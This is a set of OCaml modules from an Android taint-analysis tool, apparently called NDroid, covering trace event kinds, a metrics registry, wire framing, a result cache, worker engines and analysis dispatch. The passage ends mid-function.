module Insn = Ndroid_arm.Insn

type kind =
  | K_log
  | K_invoke
  | K_return
  | K_jni_begin
  | K_jni_end
  | K_jni_ret
  | K_source
  | K_policy_apply
  | K_arg_taint
  | K_taint_reg
  | K_taint_mem
  | K_sink_begin
  | K_sink
  | K_sink_end
  | K_gc_begin
  | K_gc_end
  | K_phase_begin
  | K_phase_end
  | K_insn
  | K_host_enter
  | K_host_leave
  | K_sb_compile
  | K_summary_apply

type record = {
  mutable e_kind : kind;
  mutable e_seq : int;
  mutable e_name : string;
  mutable e_detail : string;
  mutable e_addr : int;
  mutable e_taint : int;
  mutable e_insn : Insn.t;
}

let dummy_insn = Insn.B { cond = Insn.AL; link = false; offset = 0 }

let fresh_record () =
  { e_kind = K_log; e_seq = 0; e_name = ""; e_detail = ""; e_addr = 0;
    e_taint = 0; e_insn = dummy_insn }

let kind_name = function
  | K_log -> "log"
  | K_invoke -> "invoke"
  | K_return -> "return"
  | K_jni_begin -> "jni_begin"
  | K_jni_end -> "jni_end"
  | K_jni_ret -> "jni_ret"
  | K_source -> "source"
  | K_policy_apply -> "policy_apply"
  | K_arg_taint -> "arg_taint"
  | K_taint_reg -> "taint_reg"
  | K_taint_mem -> "taint_mem"
  | K_sink_begin -> "sink_begin"
  | K_sink -> "sink"
  | K_sink_end -> "sink_end"
  | K_gc_begin -> "gc_begin"
  | K_gc_end -> "gc_end"
  | K_phase_begin -> "phase_begin"
  | K_phase_end -> "phase_end"
  | K_insn -> "insn"
  | K_host_enter -> "host_enter"
  | K_host_leave -> "host_leave"
  | K_sb_compile -> "sb_compile"
  | K_summary_apply -> "summary_apply"

let all_kinds =
  [ K_log; K_invoke; K_return; K_jni_begin; K_jni_end; K_jni_ret; K_source;
    K_policy_apply; K_arg_taint; K_taint_reg; K_taint_mem; K_sink_begin;
    K_sink; K_sink_end; K_gc_begin; K_gc_end; K_phase_begin; K_phase_end;
    K_insn; K_host_enter; K_host_leave; K_sb_compile; K_summary_apply ]

let kind_of_name =
  let tbl = Hashtbl.create 31 in
  List.iter (fun k -> Hashtbl.replace tbl (kind_name k) k) all_kinds;
  fun name -> Hashtbl.find_opt tbl name

type span = B | E | I

let span_of_kind = function
  | K_invoke | K_jni_begin | K_sink_begin | K_gc_begin | K_phase_begin
  | K_host_enter ->
    B
  | K_return | K_jni_end | K_sink_end | K_gc_end | K_phase_end | K_host_leave ->
    E
  | K_log | K_jni_ret | K_source | K_policy_apply | K_arg_taint | K_taint_reg
  | K_taint_mem | K_sink | K_insn | K_sb_compile | K_summary_apply ->
    I

(* Trace-viewer lanes: spans on one lane must nest, so each call-stack-like
   family gets its own thread id. *)
let tid_of_kind = function
  | K_invoke | K_return -> 1
  | K_jni_begin | K_jni_end | K_jni_ret | K_source | K_policy_apply
  | K_arg_taint | K_taint_reg | K_taint_mem | K_sink_begin | K_sink | K_sink_end
  | K_insn | K_host_enter | K_host_leave | K_sb_compile | K_summary_apply ->
    2
  | K_gc_begin | K_gc_end -> 3
  | K_log -> 4
  | K_phase_begin | K_phase_end -> 5

let category = function
  | K_log -> "log"
  | K_invoke | K_return -> "dalvik"
  | K_jni_begin | K_jni_end | K_jni_ret -> "jni"
  | K_source | K_policy_apply | K_arg_taint -> "source"
  | K_taint_reg | K_taint_mem -> "taint"
  | K_sink_begin | K_sink | K_sink_end -> "sink"
  | K_gc_begin | K_gc_end -> "gc"
  | K_phase_begin | K_phase_end -> "pipeline"
  | K_insn | K_host_enter | K_host_leave | K_sb_compile | K_summary_apply ->
    "native"

(* The string each typed event used to be logged as, before the engines
   moved off [Flow_log]'s string list: the paper's Fig. 6-9 vocabulary,
   rendered in exactly one place.  Events with no legacy spelling (machine
   trace entries, method spans, pipeline phases) render to [None] and are
   invisible to the flow log. *)
let render_fields ~kind ~name ~detail ~addr ~taint =
  match kind with
  | K_log -> Some name
  | K_arg_taint ->
    Some
      (Format.asprintf "args[%d]@%s taint: %a" addr detail Taint.pp
         (Taint.of_bits taint))
  | K_source -> Some (Printf.sprintf "Find a source function @0x%x" addr)
  | K_policy_apply -> Some (Printf.sprintf "SourceHandler @0x%x" addr)
  | K_taint_reg ->
    Some
      (Format.asprintf "t(r%d) := %a" addr Taint.pp (Taint.of_bits taint))
  | K_taint_mem ->
    Some
      (Format.asprintf "t(%x) := %a" addr Taint.pp (Taint.of_bits taint))
  | K_jni_ret ->
    Some
      (Format.asprintf "%s End (return taint %a)" name Taint.pp
         (Taint.of_bits taint))
  | K_sink_begin -> Some (Printf.sprintf "SinkHandler[%s] begin" name)
  | K_sink ->
    Some
      (Format.asprintf "SinkHandler[%s]: taint %a -> %s" name Taint.pp
         (Taint.of_bits taint) detail)
  | K_sink_end -> Some (Printf.sprintf "SinkHandler[%s] end" name)
  | K_invoke | K_return | K_jni_begin | K_jni_end | K_gc_begin | K_gc_end
  | K_phase_begin | K_phase_end | K_insn | K_host_enter | K_host_leave
  | K_sb_compile | K_summary_apply ->
    None

let render r =
  render_fields ~kind:r.e_kind ~name:r.e_name ~detail:r.e_detail ~addr:r.e_addr
    ~taint:r.e_taint

let renderable = function
  | K_log | K_arg_taint | K_source | K_policy_apply | K_taint_reg | K_taint_mem
  | K_jni_ret | K_sink_begin | K_sink | K_sink_end ->
    true
  | K_invoke | K_return | K_jni_begin | K_jni_end | K_gc_begin | K_gc_end
  | K_phase_begin | K_phase_end | K_insn | K_host_enter | K_host_leave
  | K_sb_compile | K_summary_apply ->
    false
