module Json = Ndroid_report.Json

type counter = { mutable c_value : int }

let n_buckets = 48

type histogram = {
  mutable h_count : int;
  mutable h_sum : float;
  h_buckets : int array;  (* log2 buckets over the value in integer units *)
}

type t = {
  counters : (string, counter) Hashtbl.t;
  histograms : (string, histogram) Hashtbl.t;
}

let create () = { counters = Hashtbl.create 16; histograms = Hashtbl.create 16 }

let counter t name =
  match Hashtbl.find_opt t.counters name with
  | Some c -> c
  | None ->
    let c = { c_value = 0 } in
    Hashtbl.replace t.counters name c;
    c

let incr c = c.c_value <- c.c_value + 1
let add c n = c.c_value <- c.c_value + n
let value c = c.c_value

let histogram t name =
  match Hashtbl.find_opt t.histograms name with
  | Some h -> h
  | None ->
    let h = { h_count = 0; h_sum = 0.0; h_buckets = Array.make n_buckets 0 } in
    Hashtbl.replace t.histograms name h;
    h

(* bucket k holds values v with 2^(k-1) <= v < 2^k (bucket 0: v <= 0) *)
let bucket_of_int v =
  if v <= 0 then 0
  else begin
    let rec bits n acc = if n = 0 then acc else bits (n lsr 1) (acc + 1) in
    min (n_buckets - 1) (bits v 0)
  end

let observe_int h v =
  h.h_count <- h.h_count + 1;
  h.h_sum <- h.h_sum +. float_of_int v;
  let b = bucket_of_int v in
  h.h_buckets.(b) <- h.h_buckets.(b) + 1

(* float observations (latencies in seconds) are bucketed in microseconds *)
let observe h v =
  h.h_count <- h.h_count + 1;
  h.h_sum <- h.h_sum +. v;
  let b = bucket_of_int (int_of_float (v *. 1e6)) in
  h.h_buckets.(b) <- h.h_buckets.(b) + 1

let hist_count h = h.h_count
let hist_sum h = h.h_sum
let hist_mean h = if h.h_count = 0 then 0.0 else h.h_sum /. float_of_int h.h_count

let counters t =
  Hashtbl.fold (fun k c acc -> (k, c.c_value) :: acc) t.counters []
  |> List.sort (fun (a, _) (b, _) -> String.compare a b)

let hist_to_json h =
  (* drop the all-zero tail so small registries stay readable *)
  let last = ref 0 in
  Array.iteri (fun i n -> if n > 0 then last := i) h.h_buckets;
  let buckets =
    Array.to_list (Array.sub h.h_buckets 0 (!last + 1))
    |> List.map (fun n -> Json.Int n)
  in
  Json.Obj
    [ ("count", Json.Int h.h_count);
      ("sum", Json.Float h.h_sum);
      ("buckets", Json.List buckets) ]

let to_json t =
  let cs =
    Hashtbl.fold (fun k c acc -> (k, Json.Int c.c_value) :: acc) t.counters []
  in
  let hs =
    Hashtbl.fold (fun k h acc -> (k, hist_to_json h) :: acc) t.histograms []
  in
  Json.Obj [ ("counters", Json.Obj cs); ("histograms", Json.Obj hs) ]

(* Direct registry-into-registry merge: the domain engine hands whole
   registries back by reference, so aggregation pays no serialize/parse
   tax the way the forked engine's JSON frames do. *)
let merge t src =
  Hashtbl.iter (fun k c -> add (counter t k) c.c_value) src.counters;
  Hashtbl.iter
    (fun k h ->
      let dst = histogram t k in
      dst.h_count <- dst.h_count + h.h_count;
      dst.h_sum <- dst.h_sum +. h.h_sum;
      Array.iteri
        (fun i n -> dst.h_buckets.(i) <- dst.h_buckets.(i) + n)
        h.h_buckets)
    src.histograms

(* Absorb a snapshot previously produced by [to_json] — the worker side of
   the pipeline serializes its registry into each Wire result frame and the
   parent merges it here. *)
let merge_json t j =
  (match Json.member "counters" j with
   | Some (Json.Obj fields) ->
     List.iter
       (fun (k, v) ->
         match v with Json.Int n -> add (counter t k) n | _ -> ())
       fields
   | _ -> ());
  match Json.member "histograms" j with
  | Some (Json.Obj fields) ->
    List.iter
      (fun (k, v) ->
        let h = histogram t k in
        (match Json.member "count" v with
         | Some (Json.Int n) -> h.h_count <- h.h_count + n
         | _ -> ());
        (match Json.member "sum" v with
         | Some (Json.Float f) -> h.h_sum <- h.h_sum +. f
         | Some (Json.Int n) -> h.h_sum <- h.h_sum +. float_of_int n
         | _ -> ());
        match Json.member "buckets" v with
        | Some (Json.List items) ->
          List.iteri
            (fun i item ->
              match item with
              | Json.Int n when i < n_buckets ->
                h.h_buckets.(i) <- h.h_buckets.(i) + n
              | _ -> ())
            items
        | _ -> ())
      fields
  | _ -> ()
