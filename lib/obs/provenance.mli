(** Taint provenance: reconstruct the source→sink hop chain for a flagged
    flow from the observability event stream.

    The chain is staged — source, Dalvik argument registers, JNI
    crossings, native locations, sink — with only events whose taint
    overlaps the flow's contributing, each stage deduplicated and capped
    so chains stay readable.  The terminal sink hop is synthesized from
    the flow itself (Java-context sinks decide without emitting events),
    so any flow with non-zero taint gets at least [source? ... sink]. *)

val hops :
  Ring.t -> taint:int -> sink:string -> site:string -> Ndroid_report.Flow.hop list
(** Empty when [taint = 0]. *)

val attach : Ring.t -> Ndroid_report.Flow.t -> Ndroid_report.Flow.t
(** Fill [f_hops] from the ring; leaves already-populated chains alone. *)
