(** Length-prefixed frames over pipes — the pool's result/task protocol.

    Each frame is a 4-byte big-endian length followed by that many payload
    bytes.  The worker side reads blocking whole frames; the parent side
    feeds whatever [read(2)] returned into an incremental {!reader}, so a
    select-driven loop never blocks halfway through a frame a slow (or
    freshly killed) worker only partly wrote. *)

val write_frame : Unix.file_descr -> string -> unit
(** Whole frame, retrying short writes.  Raises [Unix.Unix_error] (e.g.
    [EPIPE]) if the peer is gone. *)

val read_frame : Unix.file_descr -> string option
(** Blocking read of one whole frame; [None] on clean EOF at a frame
    boundary (and on a torn frame, which only happens if the peer died
    mid-write). *)

type reader

val create_reader : unit -> reader

val drain : reader -> Unix.file_descr ->
  [ `Frames of string list | `Eof of string list ]
(** One [read(2)] on a descriptor select said is readable; returns every
    frame completed by those bytes (often none or several).  [`Eof] carries
    the final complete frames; a trailing torn frame is discarded. *)
