(** Length-prefixed frames over pipes and sockets.

    Each frame is a 4-byte big-endian length followed by that many payload
    bytes.  The worker side reads blocking whole frames; the parent side
    feeds whatever [read(2)] returned into an incremental {!reader}, so a
    select-driven loop never blocks halfway through a frame a slow (or
    freshly killed) worker only partly wrote.

    Two payload conventions share this framing:
    - {b v0 (bare)}: the payload is the message itself.  The pool's
      task/result pipes speak v0 — parent and workers are always the same
      binary, so no version negotiation is needed on that fast path.
    - {b tagged}: the payload starts with a protocol-version byte and a
      one-byte message tag ({!write_tagged} / {!parse_tagged}).  The
      service socket speaks tagged frames (currently v2), because daemon
      and client can be different binaries: a version mismatch must be
      one decisive error, never a silent misparse. *)

val write_frame : Unix.file_descr -> string -> unit
(** Whole frame, retrying short writes.  Raises [Unix.Unix_error] (e.g.
    [EPIPE]) if the peer is gone. *)

val read_frame : Unix.file_descr -> string option
(** Blocking read of one whole frame; [None] on clean EOF at a frame
    boundary (and on a torn frame, which only happens if the peer died
    mid-write). *)

type reader

val create_reader : unit -> reader

val drain : reader -> Unix.file_descr ->
  [ `Frames of string list | `Eof of string list ]
(** One [read(2)] on a descriptor select said is readable; returns every
    frame completed by those bytes (often none or several).  [`Eof] carries
    the final complete frames; a trailing torn frame is discarded. *)

(** {1 Tagged frames} *)

val protocol_version : int
(** The service-protocol generation this binary speaks.  Bump on any
    incompatible change to the tagged-frame payloads. *)

val encode_tagged : tag:char -> string -> bytes
(** The complete frame bytes (length header, version byte, [tag] byte,
    payload) — for callers that buffer writes themselves, like the
    server's non-blocking per-client output queues. *)

val write_tagged : Unix.file_descr -> tag:char -> string -> unit
(** [encode_tagged] + blocking write, retrying short writes. *)

val parse_tagged : string -> (char * string, string) result
(** Split a frame (as returned by {!read_frame} / {!drain}) into its tag
    and payload.  [Error] — decisively, with the versions named — if the
    frame is too short or carries a different {!protocol_version}. *)
