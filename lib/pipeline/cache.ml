module Json = Ndroid_report.Json
module Verdict = Ndroid_report.Verdict

type t = { dir : string; mutable hits : int; mutable misses : int }

let create ~dir =
  (try Unix.mkdir dir 0o755 with Unix.Unix_error (Unix.EEXIST, _, _) -> ());
  { dir; hits = 0; misses = 0 }

let path t key = Filename.concat t.dir (key ^ ".json")

(* Every writer needs a distinct tmp name for the write+rename to stay
   atomic.  The pid alone covered forked workers; domains share one pid,
   so a process-wide counter disambiguates them. *)
let tmp_seq = Atomic.make 0

let tmp_name final =
  Printf.sprintf "%s.tmp.%d.%d" final (Unix.getpid ())
    (Atomic.fetch_and_add tmp_seq 1)

let read_file path =
  match open_in_bin path with
  | exception Sys_error _ -> None
  | ic ->
    let data =
      try Some (really_input_string ic (in_channel_length ic))
      with _ -> None
    in
    close_in_noerr ic;
    data

let find t ~key =
  let result =
    match read_file (path t key) with
    | None -> None
    | Some data -> (
      match Json.of_string data with
      | Error _ -> None
      | Ok j -> (
        match Verdict.report_of_json j with
        | Ok report -> Some report
        | Error _ -> None))
  in
  (match result with
   | Some _ -> t.hits <- t.hits + 1
   | None -> t.misses <- t.misses + 1);
  result

let store t ~key report =
  let final = path t key in
  let tmp = tmp_name final in
  match open_out_bin tmp with
  | exception Sys_error _ -> ()
  | oc ->
    output_string oc (Json.to_string (Verdict.report_to_json report));
    close_out_noerr oc;
    (try Sys.rename tmp final with Sys_error _ -> ())

(* Raw side entries (native taint summaries, keyed by library digest):
   opaque blobs in the same directory under their own key namespace, with
   the same tmp + rename write discipline and the same hit/miss
   accounting. *)

let find_raw t ~key =
  let result = read_file (path t key) in
  (match result with
   | Some _ -> t.hits <- t.hits + 1
   | None -> t.misses <- t.misses + 1);
  result

let store_raw t ~key data =
  let final = path t key in
  let tmp = tmp_name final in
  match open_out_bin tmp with
  | exception Sys_error _ -> ()
  | oc ->
    output_string oc data;
    close_out_noerr oc;
    (try Sys.rename tmp final with Sys_error _ -> ())

let hits t = t.hits
let misses t = t.misses
