(** Which worker engine executes cache-missing tasks.

    [Fork] is the PR 3 engine: one process per worker, tasks and verdicts
    marshaled over {!Wire} pipes.  It is the only engine that can act on
    injected fault markers or SIGKILL an overrunning task, because the
    unit of isolation is a process.

    [Domains] is the in-process engine ({!Domain_pool}): one OCaml 5
    domain per worker, sharing the {!Analysis.service} warm layer, with
    no fork, no serialization and no parent-side reassembly on the
    per-task path.  Domains cannot be SIGKILLed, so fault markers and
    wall-clock budgets are not enforceable there.

    [Auto] picks per run: fork when the work needs process isolation
    (faults to act on, a timeout to enforce), domains otherwise.  The
    engines never mix within a process — OCaml 5's [Unix.fork] refuses
    to run once any domain has been spawned. *)

type t = Fork | Domains | Auto

val name : t -> string
val of_name : string -> (t, string) result

val resolve : t -> needs_isolation:bool -> t
(** Never returns [Auto]. *)
