(** The analysis worker process — one loop shared by the batch {!Pool}
    and the {!Server} daemon.

    A worker blocks reading v0 task frames ({!Wire}) from [task_r],
    analyzes each task through {!Analysis.run} under a fresh per-task
    observability hub, and writes one v0 result frame
    [{id; seconds; metrics; report}] to [result_w].  EOF on [task_r] is
    the shutdown signal.  Fault markers on a task are acted on here —
    crash, self-SIGKILL, hang, or sleep-then-analyze — which is what the
    crash-isolation and service-layer tests inject.

    When the task frame carries a ["trace"] member (a throttle window in
    event-seq units; the {!Server} adds it while trace subscribers are
    attached), the worker drains the task's ring through a
    {!Ndroid_obs.Stream.tap} and writes the surviving events as
    [{"trace": {id; app; events; dropped; lost}}] frames — batched, and
    always *before* the result frame, so the daemon fans them out ahead
    of the verdict. *)

val loop : Unix.file_descr -> Unix.file_descr -> unit
(** [loop task_r result_w] never returns: it [_exit]s when the task pipe
    reaches EOF (or on any escaping exception).  Call only in a forked
    child. *)

val meta_int : string -> Ndroid_report.Verdict.report -> int
(** A counter from the report's meta, accepting both the bare key (dynamic
    reports) and its ["dynamic_"]-prefixed form (merged reports). *)
