module H = Ndroid_apps.Harness
module Registry = Ndroid_apps.Registry
module St = Ndroid_static
module Apk = Ndroid_corpus.Apk
module App_model = Ndroid_corpus.App_model
module Verdict = Ndroid_report.Verdict
module Json = Ndroid_report.Json
module Vm = Ndroid_dalvik.Vm

(* Bump on any verdict-affecting analyzer change: it invalidates every
   cached result at once. *)
let version = "4"

(* The dynamic path's feature switches.  They are part of every cache
   key (see {!digest}): flipping one invalidates exactly the results it
   could change, without touching [version]. *)
let use_superblocks = false
let use_summaries = true

let feature_key =
  Printf.sprintf "superblocks=%b;summaries=%b;focus=slice" use_superblocks
    use_summaries

let enable_summary_cache cache =
  (* Native taint summaries persist as raw entries beside the verdict
     reports, keyed by library digest: a re-run over an unchanged corpus
     skips re-deriving them, and any change to a library's code bytes
     changes the digest and misses cleanly. *)
  Ndroid_summary.Summary.set_persistence
    ~load:(fun digest -> Cache.find_raw cache ~key:("summary-" ^ digest))
    ~save:(fun digest data ->
      Cache.store_raw cache ~key:("summary-" ^ digest) data)

let crashed_report ~app ~analysis why =
  { Verdict.r_app = app; r_analysis = analysis; r_verdict = Verdict.Crashed why;
    r_meta = [] }

let model_of_market ~total ~seed ~permille id =
  Task.market_model ~total ~seed ~permille id

let static_bundled_v = St.Drive.verdict_of_app
let static_bundled app = St.Report.to_report (static_bundled_v app)
let static_market_v model = St.Analyzer.analyze_apk (Apk.of_app_model model)
let static_market model = St.Report.to_report (static_market_v model)

let dynamic_bundled ?obs ?focus (app : H.app) =
  let outcome =
    H.run ?obs ~superblocks:use_superblocks ~summaries:use_summaries ?focus
      H.Ndroid_full app
  in
  (* deterministic execution counters: same app, same counts, whatever the
     --jobs value — safe to put in the canonical report *)
  let c = (Ndroid_runtime.Device.vm outcome.H.device).Vm.counters in
  let nd_stats =
    match outcome.H.analysis with
    | Some nd -> Some (Ndroid_core.Ndroid.stats nd)
    | None -> None
  in
  let sb_stat f = match nd_stats with Some s -> f s | None -> 0 in
  let sb_compiles = sb_stat (fun s -> s.Ndroid_core.Ndroid.sb_compiles) in
  let sb_hits = sb_stat (fun s -> s.Ndroid_core.Ndroid.sb_hits) in
  let sb_invalidations =
    sb_stat (fun s -> s.Ndroid_core.Ndroid.sb_invalidations)
  in
  let summaries_applied =
    sb_stat (fun s -> s.Ndroid_core.Ndroid.native_summaries_applied)
  in
  let summaries_rejected =
    sb_stat (fun s -> s.Ndroid_core.Ndroid.native_summaries_rejected)
  in
  (* the same counters feed the observability registry, so one sweep-wide
     merge covers both the legacy stats fields and the metrics JSON *)
  (match obs with
   | Some ring when Ndroid_obs.Ring.on ring ->
     let m = Ndroid_obs.Ring.metrics ring in
     let bump name v = Ndroid_obs.Metrics.add (Ndroid_obs.Metrics.counter m name) v in
     bump "bytecodes" c.Vm.bytecodes;
     bump "invokes" c.Vm.invokes;
     bump "jni_crossings" (c.Vm.native_calls + c.Vm.jni_env_calls);
     bump "sb_compiles" sb_compiles;
     bump "sb_hits" sb_hits;
     bump "sb_invalidations" sb_invalidations;
     bump "summaries_applied" summaries_applied;
     bump "summaries_rejected" summaries_rejected;
     bump "focused_methods" (sb_stat (fun s -> s.Ndroid_core.Ndroid.focused_methods));
     bump "skipped_bytecodes"
       (sb_stat (fun s -> s.Ndroid_core.Ndroid.skipped_bytecodes))
   | Some _ | None -> ());
  let counter_meta =
    [ ("bytecodes", Json.Int c.Vm.bytecodes);
      ("invokes", Json.Int c.Vm.invokes);
      ("jni_crossings", Json.Int (c.Vm.native_calls + c.Vm.jni_env_calls));
      ("sb_compiles", Json.Int sb_compiles);
      ("sb_hits", Json.Int sb_hits);
      ("sb_invalidations", Json.Int sb_invalidations);
      ("summaries_applied", Json.Int summaries_applied);
      ("summaries_rejected", Json.Int summaries_rejected);
      ("focused_methods",
       Json.Int (sb_stat (fun s -> s.Ndroid_core.Ndroid.focused_methods)));
      ("skipped_bytecodes",
       Json.Int (sb_stat (fun s -> s.Ndroid_core.Ndroid.skipped_bytecodes))) ]
  in
  match outcome.H.analysis with
  | Some nd ->
    let r = Ndroid_core.Report.to_report ~app_name:app.H.app_name nd in
    { r with Verdict.r_meta = r.Verdict.r_meta @ counter_meta }
  | None ->
    crashed_report ~app:app.H.app_name ~analysis:"dynamic"
      "NDroid failed to attach"

let merge_both (s : Verdict.report) (d : Verdict.report) =
  let verdict =
    match (s.Verdict.r_verdict, d.Verdict.r_verdict) with
    | Verdict.Crashed why, _ | _, Verdict.Crashed why -> Verdict.Crashed why
    | Verdict.Timeout, _ | _, Verdict.Timeout -> Verdict.Timeout
    | sv, dv ->
      Verdict.normalize
        (Verdict.Flagged (Verdict.flows sv @ Verdict.flows dv))
  in
  { Verdict.r_app = s.Verdict.r_app;
    r_analysis = "both";
    r_verdict = verdict;
    r_meta =
      List.map (fun (k, v) -> ("static_" ^ k, v)) s.Verdict.r_meta
      @ List.map (fun (k, v) -> ("dynamic_" ^ k, v)) d.Verdict.r_meta }

(* Hybrid dispatch: the static pass is the triage.  A clean static verdict
   is final — no device is booted, no instruction emulated.  A flagged one
   hands its slice's focus set to a gated dynamic run, and the two reports
   merge like [Both] does. *)
let hybrid ~static_v ~static_r ~run_dynamic =
  match static_r.Verdict.r_verdict with
  | Verdict.Flagged _ ->
    let d = run_dynamic ~focus:static_v.St.Analyzer.v_focus in
    { (merge_both static_r d) with Verdict.r_analysis = "hybrid" }
  | Verdict.Clean | Verdict.Crashed _ | Verdict.Timeout ->
    { static_r with Verdict.r_analysis = "hybrid" }

let run_exn ?obs (task : Task.t) =
  match (task.Task.t_subject, task.Task.t_mode) with
  | Task.Bundled name, mode -> (
    match Registry.find name with
    | None ->
      crashed_report ~app:name ~analysis:(Task.mode_name mode)
        (Printf.sprintf "unknown app %S" name)
    | Some app -> (
      match mode with
      | Task.Static -> static_bundled app
      | Task.Dynamic -> dynamic_bundled ?obs app
      | Task.Both -> merge_both (static_bundled app) (dynamic_bundled ?obs app)
      | Task.Hybrid ->
        let v = static_bundled_v app in
        hybrid ~static_v:v ~static_r:(St.Report.to_report v)
          ~run_dynamic:(fun ~focus -> dynamic_bundled ?obs ~focus app)))
  | Task.Market { m_total; m_seed; m_permille; m_id }, mode -> (
    let model = model_of_market ~total:m_total ~seed:m_seed ~permille:m_permille m_id in
    match mode with
    | Task.Static -> static_market model
    | Task.Dynamic -> Market_exec.run ?obs model
    | Task.Both ->
      merge_both (static_market model) (Market_exec.run ?obs model)
    | Task.Hybrid ->
      let v = static_market_v model in
      hybrid ~static_v:v ~static_r:(St.Report.to_report v)
        ~run_dynamic:(fun ~focus -> Market_exec.run ?obs ~focus model))

let run ?obs task =
  try run_exn ?obs task
  with exn ->
    crashed_report
      ~app:(Task.subject_name task.Task.t_subject)
      ~analysis:(Task.mode_name task.Task.t_mode)
      (Printf.sprintf "analyzer exception: %s" (Printexc.to_string exn))

(* ---- cache keys ---- *)

let abi_name = function
  | App_model.Armeabi -> "armeabi"
  | App_model.X86 -> "x86"
  | App_model.Mips -> "mips"

let add_dex buf (d : App_model.dex) =
  List.iter
    (fun r ->
      Buffer.add_string buf r;
      Buffer.add_char buf '\n')
    d.App_model.method_refs;
  List.iter
    (fun c ->
      Buffer.add_string buf c;
      Buffer.add_char buf '\n')
    d.App_model.native_decl_classes

let market_descriptor (model : App_model.t) =
  (* everything {!Apk.of_app_model} materializes from, without paying for
     materialization on every cache probe *)
  let buf = Buffer.create 256 in
  Buffer.add_string buf model.App_model.package;
  Buffer.add_char buf '|';
  Buffer.add_string buf (App_model.category_name model.App_model.category);
  Buffer.add_string buf "|main:";
  (match model.App_model.main_dex with
   | Some d -> add_dex buf d
   | None -> Buffer.add_string buf "none");
  Buffer.add_string buf "|embedded:";
  List.iter (add_dex buf) model.App_model.embedded_dexes;
  Buffer.add_string buf "|libs:";
  List.iter
    (fun (l : App_model.native_lib) ->
      Buffer.add_string buf l.App_model.lib_name;
      Buffer.add_char buf '@';
      Buffer.add_string buf (abi_name l.App_model.abi);
      Buffer.add_char buf ';')
    model.App_model.libs;
  Buffer.contents buf

let bundled_descriptor name =
  match Registry.find name with
  | None -> "unknown:" ^ name
  | Some app ->
    (* the actual artifact bytes the analyzers see, plus the entry point:
       bundled variants can share one dex+libs and differ only in where
       execution starts (the poly-* apps), and the dynamic analyzers see
       that difference even though the artifacts don't *)
    let input = St.Drive.input_of_app app in
    let entry_class, entry_method = app.Ndroid_apps.Harness.entry in
    let buf = Buffer.create 4096 in
    Buffer.add_string buf entry_class;
    Buffer.add_string buf "->";
    Buffer.add_string buf entry_method;
    Buffer.add_char buf '|';
    Buffer.add_string buf
      (Ndroid_dalvik.Dexfile.to_string input.St.Analyzer.in_classes);
    List.iter
      (fun (lib_name, prog) ->
        Buffer.add_string buf lib_name;
        Buffer.add_string buf (Ndroid_arm.Sofile.to_string prog))
      input.St.Analyzer.in_libs;
    Buffer.contents buf

let digest (task : Task.t) =
  let descriptor =
    match task.Task.t_subject with
    | Task.Bundled name -> bundled_descriptor name
    | Task.Market { m_total; m_seed; m_permille; m_id } ->
      market_descriptor
        (model_of_market ~total:m_total ~seed:m_seed ~permille:m_permille m_id)
  in
  Digest.to_hex
    (Digest.string
       (String.concat "\x00"
          [ "ndroid-analysis"; version; feature_key;
            Task.mode_name task.Task.t_mode; descriptor ]))

(* ---- the request-oriented facade ---- *)

(* One service value owns the whole answer-one-request path: digest the
   task (memoized — descriptor construction is the expensive part of a
   warm probe), probe the in-memory warm layer then the on-disk cache,
   run the analyzer on a miss, and store the answer back.  The daemon,
   the batch pool's cache pass and [Pool.run_inline] are all built on
   it, so "what counts as a hit" and "what may be cached" have exactly
   one definition. *)

(* A bounded memo table with second-chance (clock) eviction: entries keep
   a reference bit set on every hit; when the table is full the oldest
   key is inspected — recently-hit entries get their bit cleared and one
   more lap around the ring, cold ones are evicted.  A long-lived daemon
   therefore holds its hottest [capacity] answers instead of growing
   without bound. *)
type 'v memo = {
  mm_capacity : int;
  mm_tbl : (string, 'v memo_slot) Hashtbl.t;
  mm_ring : string Queue.t;  (* insertion-ordered clock hand *)
  mutable mm_evictions : int;
}

and 'v memo_slot = { ms_value : 'v; mutable ms_ref : bool }

let memo_create capacity =
  { mm_capacity = max 1 capacity;
    mm_tbl = Hashtbl.create (min capacity 4096);
    mm_ring = Queue.create ();
    mm_evictions = 0 }

let memo_find m key =
  match Hashtbl.find_opt m.mm_tbl key with
  | Some s ->
    s.ms_ref <- true;
    Some s.ms_value
  | None -> None

let memo_add m key value =
  if Hashtbl.mem m.mm_tbl key then
    (* a replace keeps its ring position; no second ring entry *)
    Hashtbl.replace m.mm_tbl key { ms_value = value; ms_ref = true }
  else begin
    let evicted = ref false in
    while Hashtbl.length m.mm_tbl >= m.mm_capacity && not !evicted do
      match Queue.take_opt m.mm_ring with
      | None -> evicted := true  (* can't happen: ring covers the table *)
      | Some victim -> (
        match Hashtbl.find_opt m.mm_tbl victim with
        | None -> ()  (* stale ring entry *)
        | Some s when s.ms_ref ->
          s.ms_ref <- false;
          Queue.add victim m.mm_ring
        | Some _ ->
          Hashtbl.remove m.mm_tbl victim;
          m.mm_evictions <- m.mm_evictions + 1;
          evicted := true)
    done;
    Hashtbl.replace m.mm_tbl key { ms_value = value; ms_ref = false };
    Queue.add key m.mm_ring
  end

(* Every service below is shared by all domains of the in-process engine:
   one mutex guards the two memo tables and the counters.  Analyzer runs,
   digest computation and disk I/O happen outside the lock — the critical
   sections are table probes only, so domains contend for nanoseconds,
   not for analysis time. *)

type service = {
  sv_cache : Cache.t option;
  sv_lock : Mutex.t;
  sv_digest_memo : string memo;  (* subject+mode -> digest *)
  sv_memo : Verdict.report memo;  (* digest -> warm report *)
  mutable sv_requests : int;
  mutable sv_hits : int;  (* memo + disk together *)
}

let default_capacity = 65536

let service ?cache ?(capacity = default_capacity) () =
  (match cache with Some c -> enable_summary_cache c | None -> ());
  { sv_cache = cache;
    sv_lock = Mutex.create ();
    sv_digest_memo = memo_create capacity;
    sv_memo = memo_create capacity;
    sv_requests = 0;
    sv_hits = 0 }

let locked sv f =
  Mutex.lock sv.sv_lock;
  match f () with
  | v ->
    Mutex.unlock sv.sv_lock;
    v
  | exception exn ->
    Mutex.unlock sv.sv_lock;
    raise exn

let service_requests sv = locked sv (fun () -> sv.sv_requests)
let service_hits sv = locked sv (fun () -> sv.sv_hits)

let service_evictions sv =
  locked sv (fun () ->
      sv.sv_digest_memo.mm_evictions + sv.sv_memo.mm_evictions)

let service_warm_entries sv =
  locked sv (fun () -> Hashtbl.length sv.sv_memo.mm_tbl)

(* the answer's identity: subject and mode, never the request-local id or
   an injected fault *)
let memo_key (task : Task.t) =
  Task.mode_name task.Task.t_mode
  ^ "|"
  ^ Json.to_string (Task.subject_to_json task.Task.t_subject)

let service_digest sv task =
  let k = memo_key task in
  match locked sv (fun () -> memo_find sv.sv_digest_memo k) with
  | Some d -> d
  | None ->
